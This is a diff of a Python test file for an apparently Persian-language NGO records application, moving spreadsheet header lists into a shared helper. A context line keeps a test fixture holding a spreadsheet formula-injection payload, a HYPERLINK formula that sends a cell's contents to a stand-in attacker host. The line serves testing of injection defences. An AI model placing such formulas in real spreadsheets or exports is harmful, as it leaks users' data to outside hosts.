@@ -17,7 +17,7 @@ from pathlib import Path
 import openpyxl
 import pytest
 from disk_faults import files_in, fill_disk_after
-from ngo_sheets import HEADERS, good_row, nid
+from ngo_sheets import EVENT_HEADERS, HEADERS, LETTER_HEADERS, LICENCE_HEADERS, good_row, nid
 from sqlalchemy import select, update
 
 from ostandari_desk.errors import UserError
@@ -28,19 +28,6 @@ from ostandari_desk.store.models import Ngo
 
 INJECT = '=HYPERLINK("http://evil.example/?d="&A2,"پیوند")'
 KINDS = ("ngos", "licences", "events", "letters")
-LICENCE_HEADERS = ["شناسه ملی سمن", "اقدام", "تاریخ", "شماره پروانه", "تاریخ انقضا", "شماره نامه", "توضیحات"]
-EVENT_HEADERS = [
-    "عنوان",
-    "نوع",
-    "تاریخ شروع",
-    "تاریخ پایان",
-    "شهرستان",
-    "برگزارکننده",
-    "تعداد شرکت‌کنندگان",
-    "ساعت آموزش",
-    "سمن‌های شرکت‌کننده",
-]
-LETTER_HEADERS = ["شماره نامه", "تاریخ", "جهت", "نوع", "طرف مکاتبه", "موضوع", "شناسه ملی سمن", "شهرستان"]
 
 
 def write_csv(path: Path, rows) -> Path:
